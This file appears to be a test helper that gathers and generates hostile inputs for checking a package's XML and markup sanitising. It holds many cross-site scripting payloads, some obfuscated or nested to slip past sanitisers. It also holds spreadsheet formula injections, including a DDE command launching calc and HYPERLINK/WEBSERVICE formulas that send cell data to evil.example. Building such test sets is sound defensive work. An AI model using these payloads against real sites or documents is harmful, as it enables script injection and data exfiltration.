"""The hostile texts: public sets, sets beside the checkout, and variations of our own. tests/hostile."""

from __future__ import annotations

import base64
import json
import random
import re
from collections.abc import Iterable, Iterator
from functools import cache
from pathlib import Path
from urllib.parse import quote

from lxml import etree, html

from epm_xblocks.safe_xml import XmlProblem, inside

HERE = Path(__file__).parent
BESIDE = HERE.parents[2] / "shared" / "data" / "hostile"
LONGEST = 8_000
"""Characters of a vector: longer ones are sample files, not vectors."""

_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


@cache
def public() -> dict[str, tuple[str, ...]]:
    """The sets of this repository, by name."""
    return {path.stem: tuple(json.loads(path.read_text())["vectors"]) for path in sorted(HERE.glob("data/*.json"))}


@cache
def beside() -> dict[str, tuple[str, ...]]:
    """What lies in ../shared/data/hostile and is in no set of this repository."""
    known, found = {text for texts in public().values() for text in texts}, {}
    for path in sorted(BESIDE.glob("*.json")):
        rows = json.loads(path.read_text())
        texts = [row if isinstance(row, str) else row.get("payload", "") for row in rows]
        found[path.stem] = tuple(dict.fromkeys(text for text in texts if text not in known and 0 < len(text) < LONGEST))
        known.update(found[path.stem])
    return found


@cache
def own() -> tuple[str, ...]:
    """Systematic variations: a way to run × a way to hide it × the place it breaks out of."""
    return tuple(dict.fromkeys([*_broken_out(), *_hidden(), *_nested()]))


RUN = "alert(1)"
_WAYS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<video><source onerror={RUN}></video>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
)
_BEFORE = (
    "", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>",
    "</bdi>", "</td></tr></table>", '"}</script>',
)  # fmt: skip


def _broken_out() -> Iterator[str]:
    for before in _BEFORE:
        yield from (before + way for way in _WAYS)


def _hidden() -> Iterator[str]:
    word = f"javascript:{RUN}"
    spellings = [
        "".join(f"&#{ord(sign)};" for sign in word), "".join(f"&#x{ord(sign):x};" for sign in word),
        "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", "\u00a0javascript:alert(1)",
        "&Tab;javascript:alert(1)", "java&NewLine;script&colon;alert(1)", "JaVaScRiPt:alert(1)",
        "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "blob:alert(1)",
        quote(word), "//evil.example/x",
        "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(),
        "\\\\evil.example\\x", "https:evil.example", "/\t/evil.example/x", "ｊavascript:alert(1)",
    ]  # fmt: skip
    for spelling in spellings:
        yield f'<a href="{spelling}">x</a>'
        yield f'<img src="{spelling}">'
        yield f'<iframe src="{spelling}"></iframe>'
        yield spelling
    script = f"<script>{RUN}</script>"
    yield from (
        quote(script), script.replace("<", "＜"), script.replace("<", "\\u003c"), script.replace("<", "&lt;"),
        script.replace("<", "&amp;lt;"), script.encode("utf-16").decode("latin-1"),
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "".join(f"&#{ord(sign)};" for sign in script), "\ue0f0" + "0" + "\ue0f1" + script, script.replace("s", "ſ"),
    )  # fmt: skip


def _nested() -> Iterator[str]:
    ways = ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>")
    for way in ways:
        safe = way.replace('"', "&quot;")
        yield f'<noscript><p title="</noscript>{safe}"></noscript>'
        yield f"<math><mtext><table><mglyph><style><!--</style>{way}"
        yield f"<math><mtext><mglyph><style><math>{way}"
        yield f"<svg><style>{way}</style></svg>"
        yield f'<svg></p><style><a id="</style>{safe}">'
        yield f"<form><math><mtext></form><form><mglyph><style></math>{way}"
        yield f"<template><div>{way}</div></template>"
        yield f"<svg><foreignObject>{way}</foreignObject></svg>"
        yield f"<svg><desc><![CDATA[</desc>{way}]]></svg>"
        yield f"<table><caption>{way}</caption><td>{way}</table>"
        yield f"<select><option>{way}</select>"
        yield f"<textarea>{way}</textarea>"
        yield f"<xmp>{way}</xmp><plaintext>{way}"
        yield f"<!--><!---!>{way}<!-- -->"
        yield f"<fig of='Données!B4'>{way}</fig><fig own='{way}'/>"
        yield f"<p>{way}</p><p>{way}"
        yield f"<<b>script>{way}<</b>script>"
        yield f"{{{{constructor.constructor('alert(1)')()}}}}{way}"
        yield f'[x](javascript:alert(1)) ![x](x"onerror="alert(1)) {way}'
        yield f"{{% autoescape off %}}{way}{{% endautoescape %}}${{alert(1)}}<%= alert(1) %>"


@cache
def for_spreadsheets() -> tuple[str, ...]:
    """Texts that a spreadsheet would compute."""
    return tuple(_computed())


def _computed() -> Iterator[str]:
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝", "|", "%", "'=", '"=', " ="):
        yield f"{sign}cmd|'/c calc'!A0"
        yield f'{sign}HYPERLINK("http://evil.example/?"&A1,"x")'
        yield f'{sign}WEBSERVICE("http://evil.example/"&B2)'


def every() -> tuple[str, ...]:
    """All vectors, each once, public sets first."""
    return tuple(dict.fromkeys(text for texts in _sets() for text in texts))


def _sets() -> list[tuple[str, ...]]:
    return [*public().values(), *beside().values(), own(), for_spreadsheets()]


def sliced(count: int, seed: int = 20_261) -> tuple[str, ...]:
    """The same few of every set each time."""
    sets = _sets()
    whole = sum(map(len, sets))
    chosen = random.Random(seed)
    shares = [min(len(texts), max(2, count * len(texts) // whole)) for texts in sets]
    picked = [text for texts, share in zip(sets, shares, strict=True) for text in chosen.sample(texts, share)]
    return tuple(dict.fromkeys(picked))


def batches(texts: Iterable[str], size: int, room: int = 10_000) -> list[tuple[str, ...]]:
    """The texts, so many at a time, and no more than so many characters: a case has its bounds."""
    found: list[list[str]] = [[]]
    for text in texts:
        if len(found[-1]) == size or sum(map(len, found[-1])) + len(text) > room:
            found.append([])
        found[-1].append(text)
    return [tuple(batch) for batch in found if batch]


def plain(text: str) -> str:
    """The text as far as XML can hold it, for the inside of an element or of an attribute in double quotes."""
    shown = _NOT_XML.sub("\ufffd", text).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return shown.replace('"', "&quot;").replace("\r", "&#13;").replace("\n", "&#10;").replace("\t", "&#9;")


def markup(text: str) -> str:
    """The text as well-formed markup that means what a browser would make of it; as plain text where it is none."""
    return next(filter(_stands, (text, _mended(text))), plain(text))


def _stands(text: str) -> bool:
    try:
        inside(text, "r")
    except XmlProblem:
        return False
    return True


def _mended(text: str) -> str:
    try:
        root = html.fragment_fromstring(_NOT_XML.sub("\ufffd", text), create_parent="r")
        return str(etree.tostring(root, encoding="unicode")).removeprefix("<r>").removesuffix("</r>")
    except (etree.ParserError, ValueError, AssertionError):
        return "<"
